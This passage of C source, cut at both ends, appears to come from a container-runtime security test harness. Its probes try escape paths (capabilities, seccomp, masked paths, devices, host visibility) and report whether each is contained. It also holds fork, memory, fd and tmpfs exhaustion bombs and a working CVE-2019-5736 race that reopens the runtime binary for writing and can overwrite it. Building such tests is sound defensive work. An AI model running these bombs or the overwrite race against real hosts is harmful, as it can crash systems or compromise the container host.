        const char *v = status_field(status, sets[i]);
        if (!v) {
            note_err("no %s line", sets[i]);
            continue;
        }
        unsigned long long m = strtoull(v, NULL, 16);
        unsigned long long extra = m & ~ALLOWED_CAPS;
        if (extra) {
            char names[1024] = "";
            for (int b = 0; b < 64; b++)
                if (extra & (1ull << b)) {
                    char one[48];
                    snprintf(one, sizeof one, "%s%s", names[0] ? "," : "",
                             b < (int)(sizeof CAP_NAMES / sizeof *CAP_NAMES) ? CAP_NAMES[b] : "?");
                    strncat(names, one, sizeof names - strlen(names) - 1);
                }
            note_esc("%s %s holds %s", sets[i], v, names);
        } else {
            note_ok("%s %s", sets[i], v);
        }
    }
    finish();
}

static void a_no_new_privs(const char *arg)
{
    (void)arg;
    char status[8192];
    if (read_file("/proc/self/status", status, sizeof status) <= 0)
        ERROR("cannot read /proc/self/status: %s", en(errno));
    const char *v = status_field(status, "NoNewPrivs");
    if (!v)
        ERROR("no NoNewPrivs line");
    int prctl_v = prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0);
    if (strcmp(v, "1") || prctl_v != 1)
        ESCAPED("NoNewPrivs: %s (prctl says %d): setuid binaries and file capabilities work", v, prctl_v);
    if (prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0)
        ESCAPED("no_new_privs could be cleared");
    CONTAINED("NoNewPrivs: 1; clearing it: %s", en(errno));
}

static void a_seccomp_mode(const char *arg)
{
    (void)arg;
    char status[8192];
    if (read_file("/proc/self/status", status, sizeof status) <= 0)
        ERROR("cannot read /proc/self/status: %s", en(errno));
    const char *v = status_field(status, "Seccomp");
    if (!v)
        ERROR("no Seccomp line");
    char mode[16];
    snprintf(mode, sizeof mode, "%s", v);
    const char *f = status_field(status, "Seccomp_filters");
    long filters = f ? atol(f) : -1;
    if (strcmp(mode, "2"))
        ESCAPED("Seccomp: %s: no seccomp filter", mode);
    if (filters == 0)
        ESCAPED("Seccomp: 2 but Seccomp_filters: 0");
    CONTAINED("Seccomp: 2, %ld filter(s) attached", filters);
}

static void a_leaked_fds(const char *arg)
{
    (void)arg;
    for (int i = 0; i < n_inherited; i++) {
        int fd = inherited[i];
        struct stat st;
        if (fstat(fd, &st) != 0)
            continue;
        char link[512] = "?", lp[64];
        snprintf(lp, sizeof lp, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(lp, link, sizeof link - 1);
        if (n > 0)
            link[n] = 0;
        else
            snprintf(link, sizeof link, "(no /proc: mode %o)", st.st_mode & S_IFMT);
        if (S_ISDIR(st.st_mode)) {
            char where[512] = "";
            int o = outside_root(fd, where, sizeof where);
            if (o == 1)
                note_esc("inherited fd %d -> %s is a directory outside the container's root: %s", fd, link, where);
            else
                note_esc("inherited directory fd %d -> %s", fd, link);
        } else if (S_ISREG(st.st_mode)) {
            struct stat in;
            if (link[0] == '/' && stat(link, &in) == 0 && in.st_dev == st.st_dev && in.st_ino == st.st_ino)
                note_esc("inherited fd %d -> %s (a file the container can reach anyway)", fd, link);
            else
                note_esc("inherited fd %d -> %s: a file outside the container", fd, link);
        } else {
            note_esc("inherited fd %d -> %s", fd, link);
        }
    }
    note_ok("no file descriptor beyond 0, 1, 2 was inherited");
    finish();
}

static void a_cwd(const char *arg)
{
    (void)arg;
    char buf[1024];
    char *cwd = getcwd(buf, sizeof buf);
    if (!cwd && errno != ENOENT)
        note_err("getcwd: %s", en(errno));
    if (cwd && cwd[0] != '/')
        note_esc("getcwd says %s: the working directory is outside the root", cwd);
    char where[512] = "";
    int o = outside_root(AT_FDCWD, where, sizeof where);
    if (o == 1)
        note_esc("the working directory is outside the container's root: %s", where);
    else if (o < 0)
        note_err("cannot walk up from the working directory: %s", en(errno));
    note_ok("cwd %s is inside the root", cwd ? cwd : "(deleted)");
    finish();
}

static void a_masked(const char *path)
{
    struct stat st;
    if (lstat(path, &st) != 0) {
        if (errno == ENOENT)
            CONTAINED("%s: absent", path);
        CONTAINED("%s: %s", path, en(errno));
    }
    if (S_ISDIR(st.st_mode)) {
        DIR *d = opendir(path);
        if (!d)
            CONTAINED("%s: opendir %s", path, en(errno));
        struct dirent *e;
        int n = 0;
        char first[256] = "";
        while ((e = readdir(d))) {
            if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
                continue;
            if (!n)
                snprintf(first, sizeof first, "%s", e->d_name);
            n++;
        }
        closedir(d);
        if (n)
            ESCAPED("%s lists %d entries (e.g. %s)", path, n, first);
        CONTAINED("%s: an empty directory", path);
    }
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0)
        CONTAINED("%s: open %s", path, en(errno));
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n > 0)
        ESCAPED("%s is readable: %zd bytes", path, n);
    if (n == 0)
        CONTAINED("%s reads empty", path);
    CONTAINED("%s: read %s", path, en(e));
}

static void a_kallsyms(const char *arg)
{
    (void)arg;
    FILE *f = fopen("/proc/kallsyms", "re");
    if (!f)
        CONTAINED("/proc/kallsyms: %s", en(errno));
    char line[256];
    int lines = 0, nonzero = 0;
    while (lines < 2000 && fgets(line, sizeof line, f)) {
        lines++;
        if (strtoull(line, NULL, 16) != 0)
            nonzero++;
    }
    fclose(f);
    if (nonzero)
        ESCAPED("/proc/kallsyms shows %d real kernel addresses in its first %d lines (KASLR defeated)", nonzero, lines);
    CONTAINED("/proc/kallsyms: %d lines, every address zeroed", lines);
}

/* ---------------------------------------------------------------------------------------------- */
/* devices */

struct devscan {
    int blocks, unexpected, opened;
    int want_block;
};

static int dev_expected(const char *path, const struct stat *st)
{
    unsigned ma = major(st->st_rdev), mi = minor(st->st_rdev);
    if (S_ISBLK(st->st_mode))
        return 0;
    if (ma == 136)
        return 1; /* pts */
    if (ma == 1 && (mi == 3 || mi == 5 || mi == 7 || mi == 8 || mi == 9))
        return 1; /* null zero full random urandom */
    if (ma == 5 && (mi == 0 || mi == 1 || mi == 2))
        return 1; /* tty console ptmx */
    (void)path;
    return 0;
}

static void devscan_fn(const char *path, const struct stat *st, void *arg)
{
    struct devscan *s = arg;
    if (!S_ISCHR(st->st_mode) && !S_ISBLK(st->st_mode))
        return;
    if (s->want_block && S_ISBLK(st->st_mode)) {
        s->blocks++;
        int fd = self_test ? -1 : open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (self_test || fd >= 0) {
            s->opened++;
            if (s->opened <= 5)
                note_esc("block device %s (%u:%u)%s", path, major(st->st_rdev), minor(st->st_rdev),
                         self_test ? "" : " opened");
        } else if (s->blocks <= 5) {
            note_esc("block device node %s (%u:%u) present (open: %s)", path, major(st->st_rdev),
                     minor(st->st_rdev), en(errno));
        }
        if (fd >= 0)
            close(fd);
    } else if (!s->want_block && !dev_expected(path, st)) {
        s->unexpected++;
        /* never open a watchdog (closing one without the magic write can reboot), nor anything on
         * the host: there, presence is the finding */
        if (self_test || strstr(path, "watchdog")) {
            if (++s->opened <= 6)
                note_esc("device %s (%c %u:%u) present", path, S_ISCHR(st->st_mode) ? 'c' : 'b',
                         major(st->st_rdev), minor(st->st_rdev));
            return;
        }
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_NOCTTY);
        if (fd >= 0) {
            close(fd);
            if (++s->opened <= 6)
                note_esc("device %s (%c %u:%u) opens", path, S_ISCHR(st->st_mode) ? 'c' : 'b', major(st->st_rdev),
                         minor(st->st_rdev));
        } else if (s->unexpected <= 6) {
            note_ok("%s (%u:%u) present but %s", path, major(st->st_rdev), minor(st->st_rdev), en(errno));
        }
    }
}

static void a_dev_block(const char *arg)
{
    (void)arg;
    struct devscan s = {0, 0, 0, 1};
    struct walk w = {0, 5000, 3, devscan_fn, &s};
    walk_tree(&w, "/dev", 0);
    if (s.blocks > 5)
        note_esc("%d block devices in all", s.blocks);
    note_ok("no block device in /dev (%d nodes seen)", w.files);
    finish();
}

static void a_dev_unexpected(const char *arg)
{
    (void)arg;
    struct devscan s = {0, 0, 0, 0};
    struct walk w = {0, 5000, 3, devscan_fn, &s};
    walk_tree(&w, "/dev", 0);
    note_ok("%d device nodes, %d outside null/zero/full/random/urandom/tty/console/ptmx/pts, none opens", w.files,
            s.unexpected);
    finish();
}

static void a_dev_mem(const char *arg)
{
    (void)arg;
    static const char *devs[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/net/tun", "/dev/fuse",
                                 "/dev/kvm", "/dev/loop-control", NULL};
    for (int i = 0; devs[i]; i++) {
        int fd = open(devs[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0) {
            close(fd);
            note_esc("%s opened", devs[i]);
        } else if (errno == ENOENT) {
            note_ok("%s absent", devs[i]);
        } else {
            note_ok("%s: %s", devs[i], en(errno));
        }
    }
    finish();
}

static void a_dev_nodes_sane(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not meaningful on the host");
    static const struct {
        const char *path;
        unsigned ma, mi;
        int may_be_absent;
    } d[] = {{"/dev/null", 1, 3, 0},   {"/dev/zero", 1, 5, 0}, {"/dev/full", 1, 7, 0}, {"/dev/random", 1, 8, 0},
             {"/dev/urandom", 1, 9, 0}, {"/dev/tty", 5, 0, 0}, {"/dev/console", 0, 0, 1}};
    for (unsigned i = 0; i < sizeof d / sizeof *d; i++) {
        struct stat st;
        if (lstat(d[i].path, &st) != 0) {
            if (d[i].may_be_absent)
                note_ok("%s absent", d[i].path);
            else
                note_err("%s: %s", d[i].path, en(errno));
            continue;
        }
        if (S_ISLNK(st.st_mode)) {
            char t[256] = "";
            ssize_t n = readlink(d[i].path, t, sizeof t - 1);
            if (n > 0)
                t[n] = 0;
            note_esc("%s is a symlink to %s", d[i].path, t);
            continue;
        }
        if (!S_ISCHR(st.st_mode)) {
            note_esc("%s is not a character device (mode %o)", d[i].path, st.st_mode & S_IFMT);
            continue;
        }
        unsigned ma = major(st.st_rdev), mi = minor(st.st_rdev);
        if (!strcmp(d[i].path, "/dev/console")) {
            if (!(ma == 136 || (ma == 5 && mi == 1)))
                note_esc("/dev/console is device %u:%u", ma, mi);
            continue;
        }
        if (ma != d[i].ma || mi != d[i].mi)
            note_esc("%s is device %u:%u, not %u:%u", d[i].path, ma, mi, d[i].ma, d[i].mi);
    }
    /* /dev/null must behave as /dev/null: the stdio-reopen trick of the 2026 crun advisories */
    int fd = open("/dev/null", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        struct statfs sf;
        if (fstatfs(fd, &sf) == 0 && (sf.f_type == PROC_SUPER_MAGIC_ || sf.f_type == SYSFS_MAGIC_))
            note_esc("/dev/null opens a procfs/sysfs file");
        close(fd);
    }
    note_ok("null zero full random urandom tty are the real character devices");
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* host visibility */

static void a_host_processes(const char *arg)
{
    (void)arg;
    if (!host_marker)
        ERROR("no --host-marker given");
    /* the marker comes reversed, so that this process's own command line does not contain it */
    char marker[256];
    size_t ml = strlen(host_marker);
    if (ml == 0 || ml >= sizeof marker)
        ERROR("bad --host-marker");
    for (size_t i = 0; i < ml; i++)
        marker[i] = host_marker[ml - 1 - i];
    marker[ml] = 0;
    DIR *d = opendir("/proc");
    if (!d)
        ERROR("opendir /proc: %s", en(errno));
    struct dirent *e;
    int n = 0;
    while ((e = readdir(d))) {
        if (!isdigit((unsigned char)e->d_name[0]))
            continue;
        n++;
        char p[300], cmd[4096];
        snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
        ssize_t len = read_file(p, cmd, sizeof cmd);
        for (ssize_t i = 0; i < len; i++)
            if (!cmd[i])
                cmd[i] = ' ';
        if (len > 0 && strstr(cmd, marker))
            note_esc("host process %s (%s) is visible", e->d_name, marker);
    }
    closedir(d);
    note_ok("%d processes visible, none of the host's", n);
    finish();
}

static void a_hostname(const char *arg)
{
    (void)arg;
    if (!host_hostname)
        ERROR("no --host-hostname given");
    struct utsname u;
    uname(&u);
    if (!strcmp(u.nodename, host_hostname))
        ESCAPED("hostname is the host's (%s)", u.nodename);
    CONTAINED("hostname %s, not the host's %s", u.nodename, host_hostname);
}

static void a_ipc_host(const char *arg)
{
    (void)arg;
    if (shm_key < 0)
        ERROR("no --shm-key given");
    int id = shmget((key_t)shm_key, 0, 0);
    if (id >= 0)
        ESCAPED("the host's SysV shared memory segment (key 0x%lx) is visible (id %d)", shm_key, id);
    CONTAINED("shmget(host key 0x%lx): %s", shm_key, en(errno));
}

static void a_cgroup_namespace(const char *arg)
{
    (void)arg;
    char buf[8192];
    if (read_file("/proc/self/cgroup", buf, sizeof buf) < 0)
        ERROR("cannot read /proc/self/cgroup: %s", en(errno));
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
        char *path = strrchr(line, ':');
        if (path && strcmp(path + 1, "/"))
            note_esc("/proc/self/cgroup shows the host path %s", line);
    }
    note_ok("every hierarchy shows / (own cgroup namespace)");
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* bombs */

static void a_fork_bomb(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    long n = 0;
    int err = 0;
    while (n < max_forks) {
        pid_t p = fork();
        if (p == 0) {
            for (;;)
                pause();
        }
        if (p < 0) {
            err = errno;
            break;
        }
        n++;
    }
    if (n >= max_forks)
        ESCAPED("%ld processes forked without hitting a limit (stopped there)", n);
    if (err == EAGAIN)
        CONTAINED("fork failed after %ld children: EAGAIN (the pids limit)", n);
    CONTAINED("fork failed after %ld children: %s", n, en(err));
}

static void a_memory_bomb(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    int pfd[2];
    if (pipe(pfd) != 0)
        ERROR("pipe: %s", en(errno));
    pid_t c = fork();
    if (c == 0) {
        close(pfd[0]);
        long mb = 0;
        while (mb < max_mem_mb) {
            char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (p == MAP_FAILED)
                _exit(2);
            for (int i = 0; i < (1 << 20); i += 4096)
                p[i] = (char)i;
            mb++;
            if (write(pfd[1], &mb, sizeof mb) < 0)
                _exit(3);
        }
        _exit(0);
    }
    close(pfd[1]);
    long mb = 0, v;
    while (read(pfd[0], &v, sizeof v) == sizeof v)
        mb = v;
    int st = 0;
    waitpid(c, &st, 0);
    if (WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL)
        CONTAINED("the allocating child was SIGKILLed (OOM killer) after %ld MiB", mb);
    if (WIFSIGNALED(st))
        CONTAINED("the allocating child died of signal %d after %ld MiB", WTERMSIG(st), mb);
    if (WEXITSTATUS(st) == 2)
        CONTAINED("mmap failed after %ld MiB", mb);
    if (WEXITSTATUS(st) == 0)
        ESCAPED("%ld MiB allocated and touched without hitting a limit (stopped there)", mb);
    ERROR("allocating child exited %d after %ld MiB", WEXITSTATUS(st), mb);
}

static void a_fd_bomb(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    struct rlimit up = {1 << 20, 1 << 20};
    if (setrlimit(RLIMIT_NOFILE, &up) == 0)
        note_esc("RLIMIT_NOFILE raised to %d", 1 << 20);
    long n = 0;
    int err = 0;
    while (n < max_fds) {
        int fd = open("/dev/null", O_RDONLY);
        if (fd < 0) {
            err = errno;
            break;
        }
        n++;
    }
    if (n >= max_fds)
        note_esc("%ld files opened without hitting a limit (stopped there)", n);
    else
        note_ok("open failed after %ld files: %s (RLIMIT_NOFILE %lu)", n, en(err), (unsigned long)rl.rlim_cur);
    finish();
}

static void a_tmpfs_bomb(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host");
    static const char *dirs[] = {"/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/mnt", "/root", NULL};
    static char chunk[1 << 20];
    memset(chunk, 'x', sizeof chunk);
    int filled = 0;
    for (int i = 0; dirs[i]; i++) {
        struct statfs sf;
        if (statfs(dirs[i], &sf) != 0 || sf.f_type != TMPFS_MAGIC_)
            continue;
        char p[256];
        snprintf(p, sizeof p, "%s/adv-fill-%d", dirs[i], getpid());
        int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (fd < 0) {
            note_ok("%s: %s", dirs[i], en(errno));
            continue;
        }
        filled++;
        long mb = 0;
        int err = 0;
        while (mb < max_tmpfs_mb) {
            ssize_t w = write(fd, chunk, sizeof chunk);
            if (w < (ssize_t)sizeof chunk) {
                err = w < 0 ? errno : ENOSPC;
                break;
            }
            mb++;
        }
        close(fd);
        unlink(p);
        if (mb >= max_tmpfs_mb)
            note_esc("%s took %ld MiB without filling up (stopped there)", dirs[i], mb);
        else
            note_ok("%s full after %ld MiB (%s)", dirs[i], mb, en(err));
    }
    if (!filled)
        note_ok("no writable tmpfs");
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* the table */

struct attempt {
    const char *name;
    void (*fn)(const char *arg);
    const char *arg;
    int timeout;
};

static const struct attempt ATTEMPTS[] = {
    /* network */
    {"net-host-tcp-loopback", a_net_host_tcp, NULL, 20},
    {"net-host-abstract-unix", a_net_host_abstract, NULL, 20},
    {"net-interfaces-procfs", a_net_interfaces_procfs, NULL, 20},
    {"net-interfaces-ioctl", a_net_interfaces_ioctl, NULL, 20},
    {"net-routes", a_net_routes, NULL, 20},
    {"net-netlink-modify", a_net_netlink_modify, NULL, 20},
    {"socket-raw", a_socket, "2,3,1,AF_INET/SOCK_RAW/ICMP", 20},
    {"socket-raw6", a_socket, "10,3,58,AF_INET6/SOCK_RAW/ICMPV6", 20},
    {"socket-inet-sock-packet", a_socket, "2,10,768,AF_INET/SOCK_PACKET", 20},
    {"socket-packet", a_socket, "17,3,768,AF_PACKET/SOCK_RAW", 20},
    {"socket-alg", a_socket, "38,5,0,AF_ALG/SOCK_SEQPACKET", 20},
    {"socket-vsock", a_socket, "40,1,0,AF_VSOCK/SOCK_STREAM", 20},
    {"socket-netlink-xfrm", a_socket, "16,3,6,AF_NETLINK/NETLINK_XFRM", 20},
    {"socket-netlink-other", a_socket_netlink_other, NULL, 20},
    {"socket-other-families", a_socket_other_families, NULL, 20},
    /* namespaces */
    {"userns-unshare", a_userns_unshare, NULL, 20},
    {"userns-clone", a_userns_clone, NULL, 20},
    {"userns-clone3", a_userns_clone3, NULL, 20},
    {"unshare-namespaces", a_unshare_namespaces, NULL, 20},
    {"host-namespaces", a_host_namespaces, NULL, 20},
    {"setns-pid1", a_setns, NULL, 20},
    /* mounts */
    {"mount-tmpfs", a_mount_tmpfs, NULL, 20},
    {"mount-proc", a_mount_proc, NULL, 20},
    {"mount-remount-root-rw", a_mount_remount_root, NULL, 20},
    {"umount-masks", a_umount_masks, NULL, 20},
    {"mount-fsopen", a_mount_fsopen, NULL, 20},
    {"mount-fspick", a_mount_fspick, NULL, 20},
    {"mount-open-tree", a_mount_open_tree, NULL, 20},
    {"mount-setattr", a_mount_setattr, NULL, 20},
    {"mount-move-mount", a_mount_move, NULL, 20},
    {"cgroup-v1-mount-release-agent", a_cgroup_mount_release_agent, NULL, 20},
    {"cgroup-release-agent-visible", a_cgroup_release_agent_visible, NULL, 30},
    /* writes */
    {"write-rootfs", a_write_rootfs, NULL, 20},
    {"write-proc-sys", a_write_proc_sys, NULL, 20},
    {"write-sysfs", a_write_sysfs, NULL, 60},
    {"write-cgroup-limits", a_write_cgroup, NULL, 30},
    {"write-proc-self-exe", a_proc_self_exe_write, NULL, 20},
    /* syscalls */
    {"bpf", a_bpf, NULL, 20},
    {"io-uring-setup", a_io_uring, NULL, 20},
    {"perf-event-open", a_perf_event_open, NULL, 20},
    {"userfaultfd", a_userfaultfd, NULL, 20},
    {"keyctl-add-key", a_keyring, NULL, 20},
    {"open-by-handle-at-shocker", a_open_by_handle_at, NULL, 20},
    {"kexec-load", a_kexec, NULL, 20},
    {"init-finit-delete-module", a_modules, NULL, 20},
    {"swapon-swapoff", a_swap, NULL, 20},
    {"reboot", a_reboot, NULL, 20},
    {"clock-settime-settimeofday-adjtimex", a_clock, NULL, 20},
    {"acct", a_acct, NULL, 20},
    {"quotactl", a_quotactl, NULL, 20},
    {"pivot-root", a_pivot_root, NULL, 20},
    {"chroot-escape", a_chroot_escape, NULL, 20},
    {"mknod-devices", a_mknod, NULL, 20},
    {"ptrace", a_ptrace, NULL, 20},
    {"process-vm-readv-pidfd-getfd", a_process_vm, NULL, 20},
    {"personality", a_personality, NULL, 20},
    {"i386-int80", a_i386_int80, NULL, 20},
    {"x32-abi", a_x32, NULL, 20},
    {"sethostname", a_sethostname, NULL, 20},
    {"syslog-read", a_syslog, NULL, 20},
    {"iopl-ioperm", a_ioport, NULL, 20},
    {"realtime-scheduling", a_scheduling, NULL, 20},
    {"rlimit-raise", a_rlimit_raise, NULL, 20},
    {"tty-inject-tiocsti", a_tty_inject, NULL, 20},
    {"other-forbidden-syscalls", a_other_forbidden, NULL, 20},
    /* process status */
    {"capabilities", a_capabilities, NULL, 20},
    {"no-new-privs", a_no_new_privs, NULL, 20},
    {"seccomp-mode", a_seccomp_mode, NULL, 20},
    {"leaked-fds", a_leaked_fds, NULL, 20},
    {"cwd-outside-root", a_cwd, NULL, 20},
    /* masked paths */
    {"masked:/proc/kcore", a_masked, "/proc/kcore", 20},
    {"masked:/proc/keys", a_masked, "/proc/keys", 20},
    {"masked:/proc/timer_list", a_masked, "/proc/timer_list", 20},
    {"masked:/proc/sched_debug", a_masked, "/proc/sched_debug", 20},
    {"masked:/proc/interrupts", a_masked, "/proc/interrupts", 20},
    {"masked:/proc/latency_stats", a_masked, "/proc/latency_stats", 20},
    {"masked:/proc/timer_stats", a_masked, "/proc/timer_stats", 20},
    {"masked:/proc/acpi", a_masked, "/proc/acpi", 20},
    {"masked:/proc/scsi", a_masked, "/proc/scsi", 20},
    {"masked:/proc/asound", a_masked, "/proc/asound", 20},
    {"masked:/sys/firmware", a_masked, "/sys/firmware", 20},
    {"masked:/sys/devices/virtual/powercap", a_masked, "/sys/devices/virtual/powercap", 20},
    {"masked:/sys/kernel/debug", a_masked, "/sys/kernel/debug", 20},
    {"masked:/sys/kernel/security", a_masked, "/sys/kernel/security", 20},
    {"kallsyms-addresses", a_kallsyms, NULL, 20},
    /* devices */
    {"dev-block-devices", a_dev_block, NULL, 20},
    {"dev-mem-kmsg-port-tun", a_dev_mem, NULL, 20},
    {"dev-unexpected-nodes", a_dev_unexpected, NULL, 20},
    {"dev-nodes-sane", a_dev_nodes_sane, NULL, 20},
    /* host visibility */
    {"host-processes", a_host_processes, NULL, 20},
    {"hostname", a_hostname, NULL, 20},
    {"ipc-host-sysv-shm", a_ipc_host, NULL, 20},
    {"cgroup-namespace", a_cgroup_namespace, NULL, 20},
    /* bombs, last */
    {"fd-bomb", a_fd_bomb, NULL, 60},
    {"tmpfs-bomb", a_tmpfs_bomb, NULL, 90},
    {"fork-bomb", a_fork_bomb, NULL, 90},
    {"memory-bomb", a_memory_bomb, NULL, 120},
};

#define N_ATTEMPTS (sizeof ATTEMPTS / sizeof *ATTEMPTS)

static int in_list(const char *list, const char *name)
{
    if (!list)
        return 0;
    size_t n = strlen(name);
    const char *p = list;
    while ((p = strstr(p, name))) {
        int start_ok = p == list || p[-1] == ',';
        int end_ok = p[n] == 0 || p[n] == ',';
        if (start_ok && end_ok)
            return 1;
        p += n;
    }
    return 0;
}

static void reap_all(void)
{
    while (waitpid(-1, NULL, WNOHANG) > 0)
        ;
}

static int contained_n, escaped_n, error_n;

static void run_attempt(const struct attempt *a)
{
    int pfd[2];
    if (pipe2(pfd, O_CLOEXEC) != 0) {
        say("ATTEMPT %s ERROR pipe: %s", a->name, en(errno));
        error_n++;
        return;
    }
    pid_t c = fork();
    if (c < 0) {
        say("ATTEMPT %s ERROR fork: %s", a->name, en(errno));
        error_n++;
        close(pfd[0]);
        close(pfd[1]);
        return;
    }
    if (c == 0) {
        close(pfd[0]);
        setpgid(0, 0);
        verdict_fd = pfd[1];
        alarm((unsigned)a->timeout);
        a->fn(a->arg);
        ERROR("the probe returned without a verdict");
    }
    close(pfd[1]);
    setpgid(c, c);
    int st = 0;
    while (waitpid(c, &st, 0) < 0 && errno == EINTR)
        ;
    /* the attempt's own descendants (fork bomb, sleepers) die with it */
    kill(-c, SIGKILL);
    char msg[4096];
    fcntl(pfd[0], F_SETFL, O_NONBLOCK);
    ssize_t n = read(pfd[0], msg, sizeof msg - 1);
    close(pfd[0]);
    /* reap everything (this process is a subreaper, and pid 1 under `rloxsc run`) */
    for (int i = 0; i < 1000; i++) {
        pid_t r = waitpid(-1, NULL, WNOHANG);
        if (r > 0)
            continue;
        if (r < 0 && errno == ECHILD)
            break;
        usleep(5000);
    }
    reap_all();
    if (n <= 0) {
        if (WIFSIGNALED(st))
            say("ATTEMPT %s ERROR the probe died of signal %d (%s) without a verdict", a->name, WTERMSIG(st),
                WTERMSIG(st) == SIGALRM ? "timeout" : strsignal(WTERMSIG(st)));
        else
            say("ATTEMPT %s ERROR the probe exited %d without a verdict", a->name, WEXITSTATUS(st));
        error_n++;
        return;
    }
    msg[n] = 0;
    say("ATTEMPT %s %s", a->name, msg);
    if (!strncmp(msg, "CONTAINED", 9))
        contained_n++;
    else if (!strncmp(msg, "ESCAPED", 7))
        escaped_n++;
    else
        error_n++;
}

/* ---------------------------------------------------------------------------------------------- */
/* CVE-2019-5736 attacker */

struct held {
    int fd;
    int pid;
    int reported;
    char target[256];
};

static void race_exe(void)
{
    int efd = open("/tmp/evil", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (efd < 0) {
        say("ATTEMPT cve-2019-5736-exe-overwrite ERROR cannot create /tmp/evil: %s", en(errno));
        exit(1);
    }
    write_all(efd, "#!/proc/self/exe\n", 17);
    close(efd);
    struct stat self_st, bb_st;
    stat("/proc/self/exe", &self_st);
    int have_bb = stat("/bin/busybox", &bb_st) == 0;
    say("RACE READY /tmp/evil");
    static struct held held[256];
    int nheld = 0, seen_pids = 0, wopen_ok = 0, rdonly_mounts = 0, immutable_files = 0, writable_mounts = 0;
    int errs_erofs = 0, errs_etxtbsy = 0, errs_eacces = 0, errs_other = 0, opath_denied = 0;
    char example[512] = "";
    time_t end = time(NULL) + race_seconds;
    static char seen[65536];
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d)
            break;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (!isdigit((unsigned char)e->d_name[0]))
                continue;
            int pid = atoi(e->d_name);
            if (pid == getpid() || pid <= 0 || pid >= 65536 || seen[pid])
                continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    opath_denied++;
                continue;
            }
            struct stat st;
            if (fstat(fd, &st) != 0 || (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino) ||
                (have_bb && st.st_dev == bb_st.st_dev && st.st_ino == bb_st.st_ino)) {
                close(fd);
                continue;
            }
            seen[pid] = 1;
            if (nheld >= 256) {
                close(fd);
                continue;
            }
            seen_pids++;
            struct held *h = &held[nheld++];
            h->fd = fd;
            h->pid = pid;
            h->reported = 0;
            char lp[64];
            snprintf(lp, sizeof lp, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(lp, h->target, sizeof h->target - 1);
            h->target[n > 0 ? n : 0] = 0;
            struct statvfs sv;
            struct statx stx;
            if (fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY))
                rdonly_mounts++;
            else if (statx(fd, "", AT_EMPTY_PATH, STATX_BASIC_STATS, &stx) == 0 &&
                     (stx.stx_attributes_mask & STATX_ATTR_IMMUTABLE) && (stx.stx_attributes & STATX_ATTR_IMMUTABLE))
                /* immutable: no write ever, whether or not the runtime still runs */
                immutable_files++;
            else {
                writable_mounts++;
                if (!example[0])
                    snprintf(example, sizeof example, "pid %d runs %s from a writable mount", pid, h->target);
            }
        }
        closedir(d);
        for (int i = 0; i < nheld; i++) {
            char lp[64];
            snprintf(lp, sizeof lp, "/proc/self/fd/%d", held[i].fd);
            int w = open(lp, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
            if (w >= 0) {
                /* the open is the escape; only with --race-write (a private copy of the runtime) is
                 * the exploit carried through */
                static const char payload[] = "#!/bin/sh\necho rloxsc-adv: runtime overwritten from a container\n";
                ssize_t wr = race_write ? pwrite(w, payload, sizeof payload - 1, 0) : 0;
                close(w);
                wopen_ok++;
                if (!held[i].reported) {
                    held[i].reported = 1;
                    snprintf(example, sizeof example, "opened %s (exe of pid %d) for writing%s", held[i].target,
                             held[i].pid,
                             race_write ? (wr > 0 ? " and overwrote its first bytes" : " (the write failed)") : "");
                }
            } else if (errno == EROFS)
                errs_erofs++;
            else if (errno == ETXTBSY)
                errs_etxtbsy++;
            else if (errno == EACCES || errno == EPERM)
                errs_eacces++;
            else
                errs_other++;
        }
        usleep(200);
    }
    char targets[1024] = "";
    for (int i = 0; i < nheld && strlen(targets) < 700; i++) {
        if (strstr(targets, held[i].target))
            continue;
        strncat(targets, held[i].target, sizeof targets - strlen(targets) - 3);
        strcat(targets, " ");
    }
    /* the container's own binaries through /proc/self/exe */
    int self_w = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
    int self_err = errno;
    if (self_w >= 0)
        close(self_w);
    const char *stats = "";
    char sb[512];
    snprintf(sb, sizeof sb,
             "%d foreign executables seen (%s), %d on read-only mounts, %d immutable, %d other; reopen for writing: "
             "%d EROFS, %d ETXTBSY, %d EACCES/EPERM, %d other; O_PATH denied %d times; /proc/self/exe: %s",
